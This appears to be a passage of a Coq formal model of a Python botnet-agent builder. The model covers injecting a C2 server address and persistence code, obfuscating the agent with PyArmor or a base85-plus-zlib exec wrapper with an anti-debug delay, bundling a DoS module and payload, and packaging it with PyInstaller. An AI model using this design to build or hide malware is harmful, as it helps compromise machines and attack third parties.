                  ("ZOMBIE_ID = " +:+ dquote +:+ zombie_id +:+ dquote) source_code;
  source_code ← re_sub_literal h check_in_pattern
                  (timing_lines (obfuscation_level b)).1 source_code;
  source_code ← re_sub_literal h poll_pattern
                  (timing_lines (obfuscation_level b)).2 source_code;
  if String.eqb (platform b) "windows" then
    source_code ← re_sub_literal h main_pattern
                    (windows_persistence_code (emitted h) +:+ nl +:+ "def main():")
                    source_code;
    match data with
    | Some (String _ _) => re_sub_import h source_code
    | _ => Some source_code
    end
  else if String.eqb (platform b) "linux" || String.eqb (platform b) "macos" then
    re_sub_literal h main_pattern
      (unix_persistence_code (emitted h) +:+ nl +:+ "def main():") source_code
  else Some source_code.

Definition _modify_source_code (h : host) (b : builder) : M bool :=
  enter ModifySource ;;
  try_except
    (source_code <- fs_query (fun f => read_file f (join (prep_dir b) SOURCE_FILE)) ;;
     data <- get payload_data ;;
     source_code <- (match customize h b data source_code with
                     | Some s => ret s
                     | None => raise ReError
                     end) ;;
     fs_update (fun f => write_file f (modified_source b) source_code) ;;
     ret true)
    (fun _ => log Error "Failed to modify source code" ;; ret false).

(** *** Obfuscation *)

Definition blob_prefix : string := "_z = b" +:+ dquote.

(** The wrapper script of the manual fallback around the encoded blob. *)
Definition wrapper_text (generated blob : string) : string :=
  join_lines
    [ "# Obfuscated code - Generated " +:+ generated;
      "import base64";
      "import zlib";
      "import sys";
      "import types";
      "import time";
      "import random";
      EmptyString;
      "# Anti-debug delay";
      "time.sleep(random.uniform(0.1, 0.5))";
      EmptyString;
      "# Original code (compressed)";
      blob_prefix +:+ blob +:+ dquote;
      EmptyString;
      "# Decode and execute";
      "exec(zlib.decompress(base64.b85decode(_z)).decode('utf-8'))";
      EmptyString ].

Definition _manual_obfuscation (h : host) (b : builder) : M bool :=
  log Info "Performing manual code obfuscation..." ;;
  try_except
    (source_code <- fs_query (fun f => read_file f (modified_source b)) ;;
     let obfuscated_code :=
       wrapper_text (now_isoformat h) (b85encode (zlib_compress h source_code)) in
     fs_update (fun f => makedirs f (obfuscate_dir b)) ;;
     fs_update (fun f => write_file f (obfuscated_file b) obfuscated_code) ;;
     fs_update (fun f => copy2 f (join (prep_dir b) DOS_MODULE_FILE)
                           (join (obfuscate_dir b) DOS_MODULE_FILE)) ;;
     with_payload <- get (has_payload b) ;;
     (if with_payload : bool
      then fs_update (fun f => copy2 f (payload_module b)
                                 (join (obfuscate_dir b) (basename (payload_module b))))
      else ret tt) ;;
     log Info "Manual obfuscation completed" ;;
     require (found <- fs_test (fun f => exists_ f (obfuscated_file b)) ;;
              if found : bool then ret true
              else log Error "Failed to create obfuscated file" ;; ret false) ;;
     fs_query (fun f => listdir f (obfuscate_dir b)) ;;
     ret true)
    (fun _ => log Error "Manual obfuscation failed" ;; ret false).

Definition obfuscation_options (level : string) : list string :=
  if String.eqb level "basic" then ["--advanced"; "0"]
  else if String.eqb level "advanced" then ["--advanced"; "2"; "--restrict"; "3"]
  else ["--advanced"; "1"; "--restrict"; "2"].

Definition pyarmor_work_dir (b : builder) : path := join (build_dir b) "pyarmor_work".

(** [subprocess.run(cmd, check=True)] of the obfuscation tool in its
    working directory. *)
Definition run_pyarmor (h : host) (args : list string) (cwd : path) : M unit :=
  fun w =>
    match pyarmor_obfuscate h args cwd (fs w) with
    | (None, f) => (Val tt, emit (Run (PyarmorObfuscate args)) (set_fs f w))
    | (Some e, f) => (Raise e, emit (Run (PyarmorObfuscate args)) (set_fs f w))
    end.

(** [os.chdir(d)]; the working directory is restored on every way out, so
    only the failure on a missing directory is kept. *)
Definition chdir (d : path) : M unit :=
  fun w => if isdir (fs w) d then (Val tt, w) else (Raise OtherError, w).

Definition _try_pyarmor_obfuscation (h : host) (b : builder) : M bool :=
  try_except
    (let options := obfuscation_options (obfuscation_level b) in
     let work := pyarmor_work_dir b in
     fs_update (fun f => makedirs f work) ;;
     let modified_source_name := basename (modified_source b) in
     fs_update (fun f => copy2 f (modified_source b) (join work modified_source_name)) ;;
     fs_update (fun f => copy2 f (join (prep_dir b) DOS_MODULE_FILE) (join work DOS_MODULE_FILE)) ;;
     with_payload <- get (has_payload b) ;;
     (if with_payload : bool
      then fs_update (fun f => copy2 f (payload_module b)
                                 (join work (basename (payload_module b))))
      else ret tt) ;;
     chdir work ;;
     let dist_dir := join work "dist" in
     fs_update (fun f => makedirs f dist_dir) ;;
     run_pyarmor h (["obfuscate"] ++ options ++ ["-O"; "dist"; modified_source_name]) work ;;
     require (found <- fs_test (fun f => exists_ f dist_dir) ;;
              if found : bool then ret true
              else log Error "PyArmor did not create expected dist directory" ;; ret false) ;;
     fs_query (fun f => listdir f dist_dir) ;;
     fs_update (fun f => makedirs f (obfuscate_dir b)) ;;
     let obfuscated_source := join dist_dir modified_source_name in
     require (found <- fs_test (fun f => exists_ f obfuscated_source) ;;
              if found : bool then ret true
              else log Error "PyArmor did not create expected output file" ;;
                   fs_query (fun f => listdir f dist_dir) ;;
                   log Error "Files in dist directory" ;;
                   ret false) ;;
     fs_update (fun f => copy2 f obfuscated_source (obfuscated_file b)) ;;
     files <- fs_query (fun f => listdir f dist_dir) ;;
     for_each files (fun file =>
       regular <- fs_test (fun f => isfile f (join dist_dir file)) ;;
       if regular : bool
       then fs_update (fun f => copy2 f (join dist_dir file) (join (obfuscate_dir b) file))
       else ret tt) ;;
     in_dist <- fs_test (fun f => exists_ f (join dist_dir DOS_MODULE_FILE)) ;;
     fs_update (fun f =>
       copy2 f (if in_dist : bool then join dist_dir DOS_MODULE_FILE
                else join (prep_dir b) DOS_MODULE_FILE)
         (join (obfuscate_dir b) DOS_MODULE_FILE)) ;;
     with_payload <- get (has_payload b) ;;
     (if with_payload : bool then
        let payload_module_name := basename (payload_module b) in
        in_dist <- fs_test (fun f => exists_ f (join dist_dir payload_module_name)) ;;
        fs_update (fun f =>
          copy2 f (if in_dist : bool then join dist_dir payload_module_name
                   else payload_module b)
            (join (obfuscate_dir b) payload_module_name))
      else ret tt) ;;
     log Info "PyArmor obfuscation successful" ;;
     fs_query (fun f => listdir f (obfuscate_dir b)) ;;
     ret true)
    (fun _ => log Error "PyArmor obfuscation failed" ;; ret false).

Definition _obfuscate_code (h : host) (b : builder) : M bool :=
  enter Obfuscate ;;
  try_except
    (success <- _try_pyarmor_obfuscation h b ;;
     if success : bool then ret success
     else log Warning "PyArmor obfuscation failed, falling back to manual obfuscation" ;;
          _manual_obfuscation h b)
    (fun _ =>
       log Error "Obfuscation failed" ;;
       log Warning "Attempting manual obfuscation as fallback" ;;
       _manual_obfuscation h b).

(** *** Compilation *)

Definition base_imports : list string :=
  ["socket"; "ssl"; "json"; "base64"; "threading"; "uuid"; "random"; "time";
   "subprocess"; "os"; "sys"; "cryptography"; "cryptography.hazmat";
   "cryptography.hazmat.primitives"; "cryptography.hazmat.backends";
   "cryptography.hazmat.primitives.asymmetric";
   "cryptography.hazmat.primitives.ciphers"].

(** [os.path.splitext(name)[0]] for a name with one dot-suffix. *)
Definition payload_module_stem : string := "payload_module".

Definition _generate_spec_file (h : host) (b : builder) : M string :=
  log Info "Generating PyInstaller spec file..." ;;
  with_payload <- get (has_payload b) ;;
  wants_upx <- get use_upx ;;
  file_list <- fs_query (fun f => listdir f (compile_dir b)) ;;
  let additional_imports :=
    base_imports ++ (if with_payload : bool
                     then ["tempfile"; "winreg"; payload_module_stem] else []) in
  let datas :=
    (if bool_decide (DOS_MODULE_FILE ∈ file_list) then [DOS_MODULE_FILE] else [])
    ++ (if with_payload && bool_decide (basename (payload_module b) ∈ file_list)
        then [basename (payload_module b)] else [])
    ++ filter (fun f => String.prefix "pyarmor_" f = true) file_list in
  ret (spec_text (emitted h)
         (Descriptor (basename (obfuscated_file b)) datas additional_imports
            ("zombie_" +:+ platform b +:+ "_" +:+ build_timestamp b)
            wants_upx
            (negb (String.eqb (platform b) "windows"))
            (String.eqb (platform b) "macos")
            (icon_path b))).

(** The loop over the required files: the first missing one ends the
    stage with [False], after its directory was listed for the log. *)
Fixpoint check_required (files : list path) : M bool :=
  match files with
  | [] => ret true
  | p :: rest =>
      found <- fs_test (fun f => exists_ f p) ;;
      if found : bool then check_required rest
      else log Error "Required file missing" ;;
           fs_query (fun f => listdir f (dirname p)) ;;
           log Error "Directory contents" ;;
           ret false
  end.

(** [subprocess.Popen] of the packaging tool, its output read to the end,
    and [wait]: the return code. *)
Definition run_pyinstaller (h : host) (args : list string) (cwd : path) : M Z :=
  fun w =>
    match pyinstaller_run h args cwd (fs w) with
    | (Val rc, f) => (Val rc, emit (Run (PyinstallerBuild args)) (set_fs f w))
    | (Raise e, f) => (Raise e, emit (Run (PyinstallerBuild args)) (set_fs f w))
    end.

Definition _compile_executable (h : host) (b : builder) : M bool :=
  enter Compile ;;
  try_except
    (with_payload <- get (has_payload b) ;;
     let files_to_check :=
       [obfuscated_file b; join (obfuscate_dir b) DOS_MODULE_FILE]
       ++ (if with_payload : bool
           then [join (obfuscate_dir b) (basename (payload_module b))] else []) in
     require check_required files_to_check ;;
     fs_total (fun f => rmtree f (compile_dir b)) ;;
     fs_update (fun f => makedirs f (compile_dir b)) ;;
     for_each files_to_check (fun file_path =>
       fs_update (fun f => copy2 f file_path (join (compile_dir b) (basename file_path)))) ;;
     names <- fs_query (fun f => listdir f (obfuscate_dir b)) ;;
     for_each names (fun file_name =>
       regular <- fs_test (fun f => isfile f (join (obfuscate_dir b) file_name)) ;;
       if regular : bool
       then fs_update (fun f => copy2 f (join (obfuscate_dir b) file_name)
                                  (join (compile_dir b) file_name))
       else ret tt) ;;
     spec_content <- _generate_spec_file h b ;;
     let spec_file := join (compile_dir b) (build_id b +:+ ".spec") in
     fs_update (fun f => write_file f spec_file spec_content) ;;
     chdir (compile_dir b) ;;
     fs_query (fun f => listdir f (compile_dir b)) ;;
     returncode <- run_pyinstaller h ["--clean"; basename spec_file] (compile_dir b) ;;
     require (if (returncode =? 0)%Z then ret true
              else log Error "PyInstaller failed" ;; ret false) ;;
     let dist_dir := join (compile_dir b) "dist" in
     let compiled_exe := join dist_dir (executable_name b) in
     require (found <- fs_test (fun f => exists_ f compiled_exe) ;;
              if found : bool then ret true
              else log Error "PyInstaller failed to create executable" ;;
                   dist_found <- fs_test (fun f => exists_ f dist_dir) ;;
                   (if dist_found : bool
                    then fs_query (fun f => listdir f dist_dir) ;; ret tt else ret tt) ;;
                   log Error "Contents of dist directory" ;;
                   ret false) ;;
     fs_update (fun f => makedirs f (output_dir b)) ;;
     fs_update (fun f => copy2 f compiled_exe (final_executable b)) ;;
     log Info "Executable compiled successfully" ;;
     ret true)
    (fun _ => log Error "Compilation failed" ;; ret false).

(** *** Cleanup *)

Definition ends_with (suffix s : string) : bool :=
  let n := String.length s in
  let k := String.length suffix in
  (k <=? n)%nat && String.eqb (String.substring (n - k) k s) suffix.

Definition _clean_up (h : host) (b : builder) : M bool :=
  enter CleanUp ;;
  try_except
    ((if negb (debug b) then
        fs_total (fun f => rmtree f (build_dir b)) ;;
        names <- fs_query (fun f => listdir f (base_dir b)) ;;
        for_each (filter (fun f => ends_with ".spec" f = true) names) (fun spec_file =>
          try_except (fs_update (fun f => remove f (join (base_dir b) spec_file)))
                     (fun _ => ret tt)) ;;
        found <- fs_test (fun f => exists_ f (join (base_dir b) "build")) ;;
        if found : bool then fs_total (fun f => rmtree f (join (base_dir b) "build"))
        else ret tt
      else ret tt) ;;
     ret true)
    (fun _ => log Error "Cleanup failed" ;; ret true).

(** *** Metadata *)

Definition is_lower_hex (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((48 <=? n)%nat && (n <=? 57)%nat) || ((97 <=? n)%nat && (n <=? 102)%nat).

Fixpoint hex_run (s : string) : string * string :=
  match s with
  | String c s' =>
      if is_lower_hex c then let '(run, rest) := hex_run s' in (String c run, rest)
      else (EmptyString, s)
  | EmptyString => (EmptyString, EmptyString)
  end.

Fixpoint drop_string (n : nat) (s : string) : string :=
  match n, s with
  | S k, String _ s' => drop_string k s'
  | _, _ => s
  end.

Definition baked_id_prefix : string := "ZOMBIE_ID = " +:+ dquote +:+ "zombie_".

(** [re.search(r'ZOMBIE_ID = "(zombie_[a-f0-9]+)"', s)]: group 1 of the
    leftmost match. *)
Fixpoint search_zombie_id (s : string) : option string :=
  let here :=
    if String.prefix baked_id_prefix s then
      match hex_run (drop_string (String.length baked_id_prefix) s) with
      | (String c run, String q _) =>
          if Ascii.eqb q (ascii_of_nat 34) then Some ("zombie_" +:+ String c run) else None
      | _ => None
      end
    else None in
  match here with
  | Some id => Some id
  | None =>
      match s with
      | EmptyString => None
      | String _ s' => search_zombie_id s'
      end
  end.

(** [os.path.getsize]. *)
Definition getsize (h : host) (f : filesystem) (p : path) : option nat :=
  match f !! p with
  | Some (File c) => Some (String.length c)
  | Some Dir => Some (dir_size h)
  | None => None
  end.

Definition minimal_metadata (b : builder) : metadata :=
  <["executable" := JStr (basename (final_executable b))]>
  (<["platform" := JStr (platform b)]>
  (<["timestamp" := JStr (build_timestamp b)]>
  (<["build_id" := JStr (build_id b)]> ∅))).

Definition full_metadata (h : host) (b : builder) (zombie_id : string) : metadata :=
  <["build_system" := JObj [("python_version", JStr (python_version_string h));
                            ("system", JStr (system_name h));
                            ("release", JStr (system_release h));
                            ("machine", JStr (machine h))]]>
  (<["zombie_id" := JStr zombie_id]>
  (<["executable" := JStr (basename (final_executable b))]>
  (<["obfuscation_level" := JStr (obfuscation_level b)]>
  (<["server_url" := JStr (server_url b)]>
  (<["platform" := JStr (platform b)]>
  (<["timestamp" := JStr (build_timestamp b)]>
  (<["build_id" := JStr (build_id b)]> ∅))))))).

(** The nested record under the key "payload". *)
Definition payload_section (b : builder) (p : path) (size : nat) : jvalue :=
  JObj [("source", JStr (basename p));
        ("size", JInt (Z.of_nat size));
        ("technique", JStr (payload_technique b));
        ("delay", JInt (payload_delay b))].

Definition _generate_metadata (h : host) (b : builder) : M metadata :=
  enter GenerateMetadata ;;
  try_except
    (found <- try_except
                (source_content <- fs_query (fun f => read_file f (modified_source b)) ;;
                 ret (search_zombie_id source_content))
                (fun _ => ret None) ;;
     let zombie_id := default ("unknown_" +:+ build_id b) found in
     let metadata := full_metadata h b zombie_id in
     metadata <-
       match payload_path b with
       | Some p =>
           if String.eqb (platform b) "windows" then
             size <- fs_query (fun f => getsize h f p) ;;
             ret (<["payload" := payload_section b p size]> metadata)
           else ret metadata
       | None => ret metadata
       end ;;
     fs_update (fun f => write_file f (metadata_file b) (json_dump (emitted h) metadata)) ;;
     log Info "Metadata saved" ;;
     ret metadata)
    (fun _ => log Error "Failed to generate metadata" ;; ret (minimal_metadata b)).

(** ** The orchestrator *)

Definition build (h : host) (b : builder) : M (bool * option metadata) :=
  log Info "Starting build process" ;;
  log Info "Build ID" ;;
  ok <- _check_dependencies h b ;;
  if negb ok then log Error "Dependency check failed, aborting build" ;; ret (false, None) else
  ok <- _prepare_build_environment h b ;;
  if negb ok then
    log Error "Failed to prepare build environment, aborting build" ;; ret (false, None) else
  ok <- _modify_source_code h b ;;
  if negb ok then log Error "Failed to modify source code, aborting build" ;; ret (false, None) else
  ok <- _obfuscate_code h b ;;
  if negb ok then log Error "Code obfuscation failed, aborting build" ;; ret (false, None) else
  ok <- _compile_executable h b ;;
  if negb ok then log Error "Compilation failed, aborting build" ;; ret (false, None) else
  metadata <- _generate_metadata h b ;;
  _clean_up h b ;;
  log Info "Build process completed successfully" ;;
  log Info "Executable" ;;
  ret (true, Some metadata).

(** ** The entry point after [build()]: the summary reads its keys by
    subscript, so a missing key raises [KeyError]. *)

Definition subscript (m : metadata) (key : string) : result jvalue :=
  match m !! key with
  | Some v => Val v
  | None => Raise OtherError
  end.

Definition summary_keys : list string :=
  ["platform"; "build_id"; "zombie_id"; "executable"; "server_url"].

Fixpoint read_keys (m : metadata) (keys : list string) : result (list jvalue) :=
  match keys with
  | [] => Val []
  | k :: rest =>
      match subscript m k with
      | Val v =>
          match read_keys m rest with
          | Val vs => Val (v :: vs)
          | Raise e => Raise e
          end
      | Raise e => Raise e
      end
  end.

(** What [main] does with the pair returned by [build()]: the summary
    lines' values on success, exit status 1 on failure. *)
Definition print_summary (outcome : bool * option metadata) : result (list jvalue + Z) :=
  match outcome with
  | (true, Some m) =>
      match read_keys m summary_keys with
      | Val vs => Val (inl vs)
      | Raise e => Raise e
      end
  | (true, None) => Raise OtherError
  | (false, _) => Val (inr 1%Z)
  end.

(** ** Concrete runs

    A small host and project directory on which the stages can be
    evaluated.  The obfuscation tool of [demo_host] answers its version
    query and then rejects the [obfuscate] command; the packaging tool
    leaves the executable under [dist] in its working directory. *)

Definition demo_texts : texts :=
  Texts ("# persistence" +:+ nl +:+ "key_path = r" +:+ dquote)
        (dquote +:+ nl)
        ("# persistence" +:+ nl)
        (fun data _ technique => "PAYLOAD_DATA = '" +:+ data +:+ "' # " +:+ technique)
        (fun d => "# spec for " +:+ exe_name d)
        (fun m => "{}").

Definition pyarmor_rejects (args : list string) (cwd : path) (f : filesystem)
  : option exn * filesystem := (Some CalledProcessError, f).

Definition pyarmor_works (args : list string) (cwd : path) (f : filesystem)
  : option exn * filesystem :=
  (None, <[join (join cwd "dist") (List.last args EmptyString) := File "armored"]> f).

Definition pyinstaller_works (exe : string) (args : list string) (cwd : path) (f : filesystem)
  : result Z * filesystem :=
  (Val 0%Z, <[join (join cwd "dist") exe := File "binary"]> (<[join cwd "dist" := Dir]> f)).

Definition demo_host_with (version : nat * nat * nat) (exe : string)
    (pyarmor : list string -> path -> filesystem -> option exn * filesystem) : host :=
  Host version "3.x" "Linux" "6.1" "x86_64"
       None None (Some FileNotFoundError)
       pyarmor (pyinstaller_works exe)
       "0a1b2c3d" "2024-01-01T00:00:00"
       (fun s => s) (fun _ => None) 4096 demo_texts.

Definition demo_source : string :=
  join_lines
    [ "import os";
      EmptyString;
      server_pattern;
      zombie_id_pattern;
      "CHECK_IN_INTERVAL = 300";
      "COMMAND_POLL_INTERVAL = 30";
      "def main():";
      "    pass";
      EmptyString ].

Definition demo_fs : filesystem :=
  <[ ["w"; "dos_module.py"] := File "# dos" ]>
  (<[ ["w"; "zombie.py"] := File demo_source ]>
  (<[ ["w"] := Dir ]> (<[ [] := Dir ]> ∅))).

Definition demo_world : world := World demo_fs false None [].

Definition demo_builder_for (plat : string) (payload : option path) (dbg : bool) : builder :=
  Builder plat "http://203.0.113.5:8080" "basic" None payload 30 "direct" dbg
          ["w"; "dist"] "zombie_00000001" "20240101000000" ["w"].

Definition linux_builder : builder := demo_builder_for "linux" None false.

Definition linux_host : host :=
  demo_host_with (3, 11, 2)%nat (executable_name linux_builder) pyarmor_rejects.

(** ** The pipeline as the design describes it

    Seven stages in a fixed order.  The first five are gates: the first
    one that reports failure ends the build with [(False, None)]; after
    the fifth, metadata generation and cleanup run and the build reports
    success with the metadata record. *)

Definition pipeline : list stage :=
  [CheckDependencies; PrepareEnvironment; ModifySource; Obfuscate; Compile;
   GenerateMetadata; CleanUp].

Definition gates : list stage := take 5 pipeline.

Definition gate (h : host) (b : builder) (s : stage) : M bool :=
  match s with
  | CheckDependencies => _check_dependencies h b
  | PrepareEnvironment => _prepare_build_environment h b
  | ModifySource => _modify_source_code h b
  | Obfuscate => _obfuscate_code h b
  | Compile => _compile_executable h b
  | GenerateMetadata => m <- _generate_metadata h b ;; ret true
  | CleanUp => _clean_up h b
  end.

Definition abort_message (s : stage) : string :=
  match s with
  | CheckDependencies => "Dependency check failed, aborting build"
  | PrepareEnvironment => "Failed to prepare build environment, aborting build"
  | ModifySource => "Failed to modify source code, aborting build"
  | Obfuscate => "Code obfuscation failed, aborting build"
  | _ => "Compilation failed, aborting build"
  end.

(** The gates in order, up to the first that fails. *)
Fixpoint first_failure (h : host) (b : builder) (stages : list stage) : M (option stage) :=
  match stages with
  | [] => ret None
  | s :: rest =>
      ok <- gate h b s ;;
      if ok : bool then first_failure h b rest else ret (Some s)
  end.

Definition build_by_design (h : host) (b : builder) : M (bool * option metadata) :=
  log Info "Starting build process" ;;
  log Info "Build ID" ;;
  failed <- first_failure h b gates ;;
  match failed with
  | Some s => log Error (abort_message s) ;; ret (false, None)
  | None =>
      metadata <- _generate_metadata h b ;;
      _clean_up h b ;;
      log Info "Build process completed successfully" ;;
      log Info "Executable" ;;
      ret (true, Some metadata)
  end.

(** The stages a trace shows as started, in order. *)
Definition entered (t : list event) : list stage :=
  omap (fun e => match e with Enter s => Some s | _ => None end) t.

Definition stage_index (s : stage) : nat :=
  match s with
  | CheckDependencies => 0
  | PrepareEnvironment => 1
  | ModifySource => 2
  | Obfuscate => 3
  | Compile => 4
  | GenerateMetadata => 5
  | CleanUp => 6
  end.


(** A windows build on Python 3.6 whose payload script lies in the
    compilation directory of the build root. *)

Definition stray_payload : path := ["w"; "build"; "compile"; "p.bat"].

Definition windows_builder : builder :=
  demo_builder_for "windows" (Some stray_payload) false.

Definition windows_host : host :=
  demo_host_with (3, 6, 8)%nat (executable_name windows_builder) pyarmor_rejects.

Definition windows_world : world :=
  World (<[ stray_payload := File "@echo off" ]>
         (<[ ["w"; "build"; "compile"] := Dir ]>
         (<[ ["w"; "build"] := Dir ]> demo_fs)))
        false None [].

(** The same project with the payload script next to the sources. *)

Definition payload_beside_sources : path := ["w"; "p.bat"].

Definition windows_builder_ok : builder :=
  demo_builder_for "windows" (Some payload_beside_sources) false.

Definition windows_world_ok : world :=
  World (<[ payload_beside_sources := File "@echo off" ]> demo_fs) false None [].

(** A host without the obfuscation tool, and a run that asked for UPX. *)

Definition host_without_pyarmor : host :=
  Host (3, 11, 2)%nat "3.11.2" "Linux" "6.1" "x86_64"
       (Some FileNotFoundError) None (Some FileNotFoundError)
       pyarmor_rejects (pyinstaller_works (executable_name linux_builder))
       "0a1b2c3d" "2024-01-01T00:00:00"
       (fun s => s) (fun _ => None) 4096 demo_texts.

Definition upx_world : world := World demo_fs true None [].


(** A text without a backslash is a template that stands for itself. *)
Fixpoint no_backslash (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => negb (Ascii.eqb c backslash) && no_backslash s'
  end.

(** A staged project on a current interpreter, whose agent source has
    none of the texts the customizer looks for. *)
Definition plain_source : string := "print(1)" +:+ nl.

Definition staged_world : world :=
  World (<[ ["w"; "build"; "prep"; "zombie.py"] := File plain_source ]>
         (<[ ["w"; "build"; "prep"] := Dir ]>
         (<[ ["w"; "build"] := Dir ]> demo_fs)))
        false None [].

Definition windows_builder_plain : builder := demo_builder_for "windows" None false.

Definition current_windows_host : host :=
  demo_host_with (3, 11, 2)%nat (executable_name windows_builder_plain) pyarmor_rejects.


(** The checks of the dependency verifier that come before the payload:
    interpreter version, the two required tools, UPX when requested (its
    absence is tolerated, any other error is not), the two input files and
    the icon. *)
Definition other_checks_pass (h : host) (b : builder) (w : world) : bool :=
  negb (version_lt (python_version h) (3, 6, 0)%nat)
  && match pyarmor_version h with None => true | Some _ => false end
  && match pyinstaller_version h with None => true | Some _ => false end
  && (negb (use_upx w)
      || match upx_version h with None => true | Some e => not_installed e end)
  && exists_ (fs w) (source_file_path b)
  && exists_ (fs w) (dos_module_path b)
  && match icon_path b with Some p => exists_ (fs w) p | None => true end.


(** ** Where the build writes, and what the tools may touch *)

(** [below d p]: [p] lies strictly below the directory [d]. *)
Definition below (d p : path) : Prop := d `prefix_of` p /\ p ≠ d.

(** An external tool is confined when it changes nothing but what lies
    strictly below its working directory. *)
Definition tools_confined (h : host) : Prop :=
  (forall args cwd f p,
     ¬ below cwd p -> (pyarmor_obfuscate h args cwd f).2 !! p = f !! p) /\
  (forall args cwd f p,
     ¬ below cwd p -> (pyinstaller_run h args cwd f).2 !! p = f !! p).

(** The paths a build may write: the build root, the output directory, and
    all below them. *)
Definition scratch (b : builder) (p : path) : Prop :=
  build_dir b `prefix_of` p \/ output_dir b `prefix_of` p.


Definition debug_builder : builder := demo_builder_for "linux" None true.


(** ** Reading the blob back out of the wrapper script *)

Fixpoint no_newline (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => negb (Ascii.eqb c newline) && no_newline s'
  end.

(** The text of a string literal up to its closing quote, the last
    character of the line. *)
Fixpoint drop_last_quote (s : string) : option string :=
  match s with
  | EmptyString => None
  | String c EmptyString => if Ascii.eqb c (ascii_of_nat 34) then Some EmptyString else None
  | String c s' => option_map (String c) (drop_last_quote s')
  end.

Fixpoint find_blob (lines : list string) : option string :=
  match lines with
  | [] => None
  | l :: rest =>
      if String.prefix blob_prefix l
      then drop_last_quote (drop_string (String.length blob_prefix) l)
      else find_blob rest
  end.

(** The blob that a wrapper script assigns to [_z]. *)
Definition embedded_blob (text : string) : option string :=
  find_blob (split_lines text).

(** The demonstration project after dependency check, staging and
    customization. *)
Definition customized_world : world :=
  (_modify_source_code linux_host linux_builder
     (_prepare_build_environment linux_host linux_builder
        (_check_dependencies linux_host linux_builder demo_world).2).2).2.


(** Outcome of a build: success with a record. *)
Definition succeeded (r : result (bool * option metadata)) : bool :=
  match r with Val (true, Some _) => true | _ => false end.


(** The world in which the first stage starts: [build()] has logged its
    two opening lines. *)
Definition announced (w : world) : world :=
  emit (Log Info "Build ID") (emit (Log Info "Starting build process") w).


(** Boolean test of an optional result. *)
Definition is_some {A} (x : option A) : bool :=
  match x with Some _ => true | None => false end.

(** None of the texts the customizer looks for occurs in [s]; the import
    line counts only where it is looked for, on windows with payload data. *)
Definition patterns_absent (b : builder) (data : option string) (s : string) : bool :=
  negb (occurs server_pattern s) && negb (occurs zombie_id_pattern s)
  && negb (occurs check_in_pattern s) && negb (occurs poll_pattern s)
  && negb (occurs main_pattern s)
  && match data with
     | Some (String _ _) =>
         negb (String.eqb (platform b) "windows") || negb (has_import_line s)
     | _ => true
     end.

(** The demonstration project with a directory where the metadata file is
    to be written. *)
Definition blocked_world : world :=
  World (<[ metadata_file linux_builder := Dir ]>
         (<[ output_dir linux_builder := Dir ]> demo_fs))
        false None [].

(** ** The predicates of the statements

    Postconditions of a run, relations between the world before and the
    world after, and the shapes of results that the theorems speak of. *)

(** [post m w Q]: the run of [m] from [w] ends in a result and a world
    that satisfy [Q]. *)
Definition post {A} (m : M A) (w : world) (Q : result A -> world -> Prop) : Prop :=
  Q (m w).1 (m w).2.

(** A stage whose handler cannot raise always returns a value. *)
Definition returns {A} (m : M A) : Prop :=
  forall w, exists a w', m w = (Val a, w').

(** [keeps R m]: the world [m] ends in is related by [R] to the world it
    started from. *)
Definition keeps {A} (R : world -> world -> Prop) (m : M A) : Prop :=
  forall w, post m w (fun _ w' => R w w').

(** No stage entry is added to the trace. *)
Definition same_entries (w w' : world) : Prop :=
  entered (trace w') = entered (trace w).

(** Each stage returns a value and shows in the trace as entered, once. *)
Definition stage_post {A} (s : stage) (w : world) (r : result A) (w' : world) : Prop :=
  (exists a, r = Val a) /\ entered (trace w') = entered (trace w) ++ [s].

(** Where [shutil.copy2] writes: inside [dst] when it is a directory. *)
Definition copy_target (f : filesystem) (src dst : path) : path :=
  if isdir f dst then join dst (basename src) else dst.

(** Metadata generation ends in one of two ways: the full record, written
    to the metadata file, with the payload section exactly when a payload
    path is configured on windows; or the minimal record, with the file
    system as it was. *)
Definition full_record (h : host) (b : builder) (w : world) (m : metadata) : Prop :=
  exists zombie_id,
    match payload_path b with
    | Some p =>
        if String.eqb (platform b) "windows" then
          exists size, getsize h (fs w) p = Some size /\
            m = <["payload" := payload_section b p size]> (full_metadata h b zombie_id)
        else m = full_metadata h b zombie_id
    | None => m = full_metadata h b zombie_id
    end.

(** The error line of the dependency check, by the [except] clause that
    catches the failed query. *)
Definition pyarmor_failure_message (e : exn) : string :=
  if not_installed e then "PyArmor not found. Install with: pip install pyarmor"
  else "Dependency check failed".

(** The pieces of a template that has no escape. *)
Fixpoint literal_pieces (s : string) : list piece :=
  match s with
  | EmptyString => []
  | String c s' => Lit c :: literal_pieces s'
  end.

(** The file system is as it was. *)
Definition same_fs (w w' : world) : Prop := fs w' = fs w.

(** [persists T w w']: every entry outside the region [T] that exists in
    [w] is still there, unchanged, in [w']. *)
Definition persists (T : path -> Prop) (w w' : world) : Prop :=
  forall p x, ¬ T p -> fs w !! p = Some x -> fs w' !! p = Some x.

(** [dirs_stay D w w']: the directories of [w] among the paths [D] are
    directories of [w']. *)
Definition dirs_stay (D : path -> Prop) (w w' : world) : Prop :=
  forall p, D p -> fs w !! p = Some Dir -> fs w' !! p = Some Dir.

(** A path with no entry still has none. *)
Definition absent_stays (q : path) (w w' : world) : Prop :=
  fs w !! q = None -> fs w' !! q = None.

(** ** Construction, the entry point, and the paths a build owns *)


(** The two attributes that stages assign are as they were. *)
Definition same_attributes (w w' : world) : Prop :=
  use_upx w' = use_upx w /\ payload_data w' = payload_data w.

(** The entries of the working directory whose name ends in ".spec", and
    what lies below them. *)
Definition spec_entry (b : builder) (p : path) : Prop :=
  exists name, ends_with ".spec" name = true /\ join (base_dir b) name `prefix_of` p.


(** The demonstration project with a descriptor of the user's own in the
    working directory. *)
Definition own_spec : path := ["w"; "mine.spec"].

Definition world_with_spec : world :=
  World (<[ own_spec := File "# mine" ]> demo_fs) false None [].

(** The project with an empty payload script beside the sources. *)
Definition empty_payload_world : world :=
  World (<[ payload_beside_sources := File EmptyString ]> demo_fs) false None [].

Definition required_files (b : builder) (w : world) : list path :=
  [obfuscated_file b; join (obfuscate_dir b) DOS_MODULE_FILE]
  ++ (if has_payload b w
      then [join (obfuscate_dir b) (basename (payload_module b))] else []).



(** [value[key]] on a nested record; on anything else the subscript is a
    [TypeError]. *)
Definition field (v : jvalue) (key : string) : result jvalue :=
  match v with
  | JObj fields =>
      match List.find (fun kv => String.eqb (fst kv) key) fields with
      | Some kv => Val (snd kv)
      | None => Raise OtherError
      end
  | _ => Raise OtherError
  end.

